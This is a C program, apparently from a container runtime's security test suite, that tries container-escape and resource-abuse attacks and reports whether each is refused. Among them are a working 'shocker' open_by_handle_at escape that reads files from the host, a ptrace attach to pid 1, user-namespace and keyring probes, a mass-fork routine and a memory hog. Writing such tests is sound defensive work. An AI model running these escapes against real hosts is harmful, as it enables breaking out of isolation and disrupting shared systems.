/* What an attacker inside a container would try (weft's security tests; built static by the
 * harness and copied into a test rootfs). Each command prints what happened and exits 0 if the
 * attack got through, 1 if it was refused, 2 on a usage error.
 *
 *   open-by-handle PATH   open the root of the filesystem /etc/hostname lives on (the host's) by
 *                         a forged handle (ext4 root: inode 2, generation 0), then read PATH from
 *                         there: the "shocker" escape (needs CAP_DAC_READ_SEARCH)
 *   unshare-user          unshare(CLONE_NEWUSER): all capabilities back, inside a new namespace
 *   keyctl                the kernel keyring (not namespaced)
 *   mount-proc DIR        mount a fresh procfs on DIR
 *   ptrace-init           PTRACE_ATTACH to pid 1 (stopping the container's init), then detach
 *   open-dev PATH         open a device node and read a byte (the devices cgroup says EPERM)
 *   forks N               fork up to N children that wait; print how many forks worked and why
 *                         the next failed, then end them all (exit 0 if all N forked)
 *   hog MB                allocate and touch MB MiB, 1 MiB at a time (exit 0 if all of it)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <sys/syscall.h>
#include <unistd.h>

static int refused(const char *what) {
    printf("refused: %s: %s\n", what, strerror(errno));
    return 1;
}

static int open_by_handle(const char *path) {
    struct {
        struct file_handle fh;
        unsigned int ino_gen[2];
    } h;
    int mfd = open("/etc/hostname", O_RDONLY);
    if (mfd < 0) return refused("open /etc/hostname");
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1; /* FILEID_INO32_GEN */
    h.ino_gen[0] = 2;
    h.ino_gen[1] = 0;
    int root = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
    if (root < 0) return refused("open_by_handle_at");
    int fd = openat(root, path, O_RDONLY);
    if (fd < 0) return refused("openat");
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n < 0) return refused("read");
    buf[n] = 0;
    printf("read outside the rootfs: %s\n", buf);
    return 0;
}

static int open_dev(const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return refused("open");
    char c;
    ssize_t n = read(fd, &c, 1);
    printf("opened %s, read %zd byte\n", path, n);
    return 0;
}

static int forks(int n) {
    static pid_t kids[100000];
    int made = 0, err = 0;
    if (n > 100000) return 2;
    for (; made < n; made++) {
        pid_t p = fork();
        if (p < 0) {
            err = errno;
            break;
        }
        if (p == 0) {
            pause();
            _exit(0);
        }
        kids[made] = p;
    }
    printf("forked %d of %d%s%s\n", made, n, err ? ": " : "", err ? strerror(err) : "");
    fflush(stdout);
    for (int i = 0; i < made; i++) kill(kids[i], SIGKILL);
    for (int i = 0; i < made; i++) waitpid(kids[i], NULL, 0);
    return made == n ? 0 : 1;
}

static int hog(int mb) {
    for (int i = 1; i <= mb; i++) {
        char *p = malloc(1 << 20);
        if (!p) return refused("malloc");
        memset(p, i, 1 << 20);
        if (i % 16 == 0) {
            printf("allocated %d MiB\n", i);
            fflush(stdout);
        }
    }
    printf("allocated all %d MiB\n", mb);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    if (!strcmp(argv[1], "open-dev") && argc == 3) return open_dev(argv[2]);
    if (!strcmp(argv[1], "forks") && argc == 3) return forks(atoi(argv[2]));
    if (!strcmp(argv[1], "hog") && argc == 3) return hog(atoi(argv[2]));
    if (!strcmp(argv[1], "open-by-handle") && argc == 3) return open_by_handle(argv[2]);
    if (!strcmp(argv[1], "unshare-user")) {
        if (unshare(CLONE_NEWUSER) < 0) return refused("unshare(CLONE_NEWUSER)");
        printf("in a new user namespace\n");
        return 0;
    }
    if (!strcmp(argv[1], "keyctl")) {
        /* KEYCTL_GET_KEYRING_ID of the session keyring, creating it */
        if (syscall(SYS_keyctl, 0, -3, 1) < 0) return refused("keyctl");
        printf("keyring reached\n");
        return 0;
    }
    if (!strcmp(argv[1], "mount-proc") && argc == 3) {
        if (mount("proc", argv[2], "proc", 0, NULL) < 0) return refused("mount proc");
        printf("mounted\n");
        return 0;
    }
    if (!strcmp(argv[1], "ptrace-init")) {
        if (ptrace(PTRACE_ATTACH, 1, NULL, NULL) < 0) return refused("ptrace(PTRACE_ATTACH, 1)");
        waitpid(1, NULL, __WALL);
        printf("attached to pid 1\n");
        ptrace(PTRACE_DETACH, 1, NULL, NULL);
        return 0;
    }
    return 2;
}
